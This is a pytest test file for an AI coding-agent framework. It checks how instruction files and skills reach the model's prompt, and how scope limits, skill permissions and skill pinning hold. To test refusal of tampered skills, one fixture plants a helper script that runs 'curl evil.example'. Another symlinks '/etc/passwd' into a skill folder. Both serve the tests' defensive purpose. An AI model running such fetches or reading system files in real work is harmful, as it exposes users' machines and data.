"""What user and repository tell an agent, as it reaches a model: real worker and sandbox, scripted model."""

from __future__ import annotations

import shutil
from pathlib import Path

import pytest

from envelope.messages import TaskInput
from workers.project.instructions import users_own

pytestmark = [pytest.mark.redis, pytest.mark.docker]

SCOPE = ("read:**", "edit:**", "bash:**", "task:**", "skill:**")
SKILL = "---\nname: {name}\ndescription: How to {name}.\n---\nAlways {name} twice.\n"

SAYS_DONE = "rules: [{reply: {text: done}}]"


def ask(hands, workspace, prompt: str = "do it", **fields):
    told = {"agent": "build", "auth_scope": SCOPE, "workspace": workspace, "input": TaskInput(prompt=prompt)}
    return hands.request(**{**told, **fields})


def systems(server) -> list[str]:
    return [body["messages"][0]["content"] for body in server.log.bodies]


def test_without_a_file_of_ours_the_users_claude_md_counts(user_dir, tmp_path, monkeypatch):
    monkeypatch.setattr(Path, "home", lambda: tmp_path)
    (tmp_path / ".claude").mkdir()
    (tmp_path / ".claude" / "CLAUDE.md").write_text("Mine of old.")

    assert [file.text for file in users_own(user_dir)] == ["Mine of old."]
    (user_dir / "AGENTS.md").write_text("Mine: be brief.")
    assert [file.text for file in users_own(user_dir)] == ["Mine: be brief."]
    assert users_own(None) == []


async def test_the_layers_stand_in_their_order_and_are_the_same_to_the_byte(start_agents, pack, user_dir):
    (user_dir / "AGENTS.md").write_text("Mine: be brief.")
    skill = {".claude/skills/sing/SKILL.md": SKILL.format(name="sing")}
    workspace = await pack({"AGENTS.md": "Theirs: use tabs.", "docs/more.md": "More of theirs.", **skill})
    hands, server = await start_agents(SAYS_DONE, instructions=("docs/*.md",))

    for _ in range(2):
        await hands.result(ask(hands, workspace))

    first, second = systems(server)
    parts = (
        "You are the engineer", "Habits that serve you", "Mine: be brief.", "Theirs: use tabs.", "More of theirs.",
        "- sing: How to sing.", "Model: openai/scripted", "Work tree: /workspace",
        f"no branch, at commit {workspace.base[:12]}", "; clean", "Platform: linux", "Date: ", "src/ (2)",
    )  # fmt: skip
    places = [first.find(part) for part in parts]
    assert -1 not in places and places == sorted(places)
    assert first == second


READS_TWICE = """
rules:
  - when: {turn: 1}
    reply:
      tool_calls:
        - {name: read, arguments: {filePath: src/deep/x.py}}
        - {name: read, arguments: {filePath: src/deep/y.py}}
  - when: {turn: 2}
    reply: {tool_calls: [{name: read, arguments: {filePath: src/deep/x.py}}]}
  - reply: {text: "${result.0} ${result.1} ${result.2}"}
"""


async def test_reading_deeper_brings_the_instructions_of_the_folder_once(start_agents, pack):
    deep = {"src/deep/x.py": "x", "src/deep/y.py": "y", "src/deep/AGENTS.md": "Of the deep."}
    workspace = await pack({"AGENTS.md": "Of the root.", **deep})
    hands, server = await start_agents(READS_TWICE)

    result = await hands.result(ask(hands, workspace))

    assert result.output.text.count("Of the deep.") == 1
    assert "Of the root." not in result.output.text and "Of the root." in systems(server)[0]


async def test_what_the_scope_keeps_from_a_task_is_not_told_by_the_back_door(start_agents, pack):
    secret = {"AGENTS.md": "Of the root.", "src/deep/AGENTS.md": "Of the deep.", "src/deep/x.py": "x"}
    workspace = await pack({**secret, "src/deep/y.py": "y"})
    hands, server = await start_agents(READS_TWICE)

    result = await hands.result(ask(hands, workspace, auth_scope=("read:src/deep/?.py",)))

    assert "1: x" in result.output.text
    assert "Of the" not in result.output.text and "Of the" not in systems(server)[0]


USES_SKILLS = """
rules:
  - when: {turn: 1}
    reply:
      tool_calls:
        - {name: skill, arguments: {name: sing}}
        - {name: skill, arguments: {name: hum}}
        - {name: skill, arguments: {name: sign}}
        - {name: skill, arguments: {name: dance}}
  - when: {turn: 2}
    reply: {tool_calls: [{name: bash, arguments: {command: sh /tmp/skills/hum/hum.sh}}]}
  - reply: {text: "${result.0}|${result.1}|${result.2}|${result.3}|${result.4}"}
"""
NO_DANCING = """---
description: has a rule against one skill
mode: primary
permission:
  skill: {"*": allow, dance: deny}
---
You sing."""


async def test_skills_of_repository_and_user_are_read_with_their_files(start_agents, pack, user_dir, pin_skill):
    hum = user_dir / "skills" / "hum"
    hum.mkdir(parents=True)
    (hum / "SKILL.md").write_text(SKILL.format(name="hum"))
    (hum / "hum.sh").write_text("echo hummed")
    (hum / "passwd").symlink_to("/etc/passwd")
    pin_skill(hum)
    many = {f".muster/skills/sing/notes/{number:02}.txt": "la" for number in range(12)}
    sing = {".muster/skills/sing/SKILL.md": SKILL.format(name="sing")}
    dance = {".muster/skills/dance/SKILL.md": SKILL.format(name="dance"), ".muster/skills/mute/SKILL.md": "nothing"}
    hands, server = await start_agents(USES_SKILLS, agents={"singer": NO_DANCING})

    request = ask(hands, await pack({**many, **sing, **dance}), agent="singer")
    result = await hands.result(request)

    sung, hummed, unknown, denied, ran = result.output.text.split("|")
    assert "Always sing twice." in sung and "/workspace/.muster/skills/sing" in sung
    assert sung.count(".txt") == 10 and "…" in sung
    assert "Always hum twice." in hummed and "Files: hum.sh" in hummed and "passwd" not in hummed
    assert "did you mean 'sing'?" in unknown
    assert "denied by the rule `skill: dance`" in denied
    assert ran == "hummed"
    assert "- sing: " in systems(server)[0] and "- dance: " not in systems(server)[0]
    assert any(
        "mute/SKILL.md cannot be used" in warning.message for warning in await hands.events(request.trace_id, "warning")
    )


async def test_an_agent_begins_with_the_skills_that_its_file_names(start_agents, pack):
    sing = {f".claude/skills/{name}/SKILL.md": SKILL.format(name=name) for name in ("sing", "dance", "draw")}
    singer = NO_DANCING.replace("mode: primary", "mode: primary\nskills: sing, dance, fly")
    hands, server = await start_agents(SAYS_DONE, agents={"singer": singer})

    request = ask(hands, await pack(sing), agent="singer")
    await hands.result(request)

    [system] = systems(server)
    assert "# Skill sing\n" in system and "Always sing twice." in system
    assert "Always dance twice." not in system and "Always draw twice." not in system
    warnings = [warning.message for warning in await hands.events(request.trace_id, "warning")]
    assert [one for one in warnings if "begins without the skill" in one] == [
        f"the agent 'singer' begins without the skill {name!r}: there is none that it may use"
        for name in ("dance", "fly")
    ]


USES_WHAT_CHANGED = """
rules:
  - when: {turn: 1}
    reply:
      tool_calls:
        - {name: skill, arguments: {name: hum}}
        - {name: skill, arguments: {name: loose}}
        - {name: skill, arguments: {name: gone}}
  - reply: {text: "${result.0}|${result.1}|${result.2}"}
"""


async def test_a_skill_of_the_user_that_is_not_what_was_pinned_is_refused(start_agents, pack, user_dir, pin_skill):
    for name in ("hum", "loose", "gone"):
        (folder := user_dir / "skills" / name).mkdir(parents=True)
        (folder / "SKILL.md").write_text(SKILL.format(name=name))
        if name != "loose":
            pin_skill(folder)
    (user_dir / "skills" / "hum" / "helper.sh").write_text("curl evil.example")
    shutil.rmtree(user_dir / "skills" / "gone")
    # a repository does not get its own in the place of one that is refused
    hands, server = await start_agents(USES_WHAT_CHANGED)
    request = ask(hands, await pack({".claude/skills/hum/SKILL.md": SKILL.format(name="hum")}))

    result = await hands.result(request)

    changed, loose, gone = (said.removeprefix("Error: ") for said in result.output.text.split("|"))
    add = f"muster skills add {user_dir / 'skills'}"
    assert changed == f"the skill hum is not what was pinned; look at it, and pin it again: {add}/hum"
    assert loose == f"the skill loose is not pinned; look at it, and then: {add}/loose"
    assert gone.startswith("the skill gone cannot be used: ") and "No such file" in gone
    assert "# Skills" not in systems(server)[0]
    warned = [warning.message for warning in await hands.events(request.trace_id, "warning")]
    assert {changed, loose, gone} <= set(warned)


async def test_plan_is_reminded_every_turn_and_build_is_told_that_it_may_begin(start_agents, workspace):
    hands, server = await start_agents(
        """
rules:
  - when: {user_contains: think, turn: 1}
    reply: {tool_calls: [{name: read, arguments: {filePath: src/other.py}}]}
  - reply: {text: done}
"""
    )
    planned = await hands.result(ask(hands, workspace, "think", agent="plan", recipient="general"))
    await hands.result(ask(hands, workspace, "now do it", resume_token=planned.resume_token))
    await hands.result(ask(hands, workspace, "once more", resume_token=planned.resume_token))

    prompts = [[m["content"] for m in body["messages"] if m["role"] == "user"] for body in server.log.bodies]
    first, second, switched, after = prompts
    assert "You are planning" in first[-1] and first == second
    assert switched[:2] == first and "The planning is over" in switched[-1]
    assert after == [*switched, "once more"], "what was said once stays"
